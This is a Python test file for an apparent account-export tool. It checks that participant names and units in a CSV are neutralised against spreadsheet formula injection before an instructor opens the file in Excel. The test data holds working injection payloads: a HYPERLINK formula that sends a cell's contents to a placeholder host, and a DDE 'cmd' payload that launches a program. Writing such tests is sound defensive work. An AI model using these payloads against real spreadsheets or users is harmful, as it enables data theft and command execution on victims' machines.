"""accounts.csv holds participant-chosen names and units: opened in Excel by the instructor, none may run."""

from __future__ import annotations

import csv
import stat

from hocai.hub.accounts import Account, write_outputs


def test_a_formula_in_a_display_name_or_unit_stays_text(tmp_path):
    accounts = [
        Account("annv", '=HYPERLINK("http://x.example/?"&A1,"Bấm")', "Xã A", "participant", "abcd-efgh-jkmn"),
        Account("binhtt", "Trần Thị Bình", "+cmd|' /C calc'!A0", "participant", None),
        Account("cuongle", "Lê Văn Cường", "@SUM(1+1)", "instructor", "pqrs-tuvw-xyz2"),
    ]
    table, slips = write_outputs(accounts, tmp_path / "out", "http://10.0.0.2:8000/")
    with open(table, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["username", "password", "full_name", "unit", "role", "url"]
    assert rows[1][2] == '\'=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    assert rows[2][1:4] == ["(giữ mật khẩu cũ)", "Trần Thị Bình", "'+cmd|' /C calc'!A0"]
    assert rows[3][3] == "'@SUM(1+1)" and rows[3][1] == "pqrs-tuvw-xyz2"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert stat.S_IMODE(table.stat().st_mode) == 0o600 and slips.exists()
    assert sorted(p.name for p in table.parent.iterdir()) == ["accounts.csv", "login-slips.pdf"]
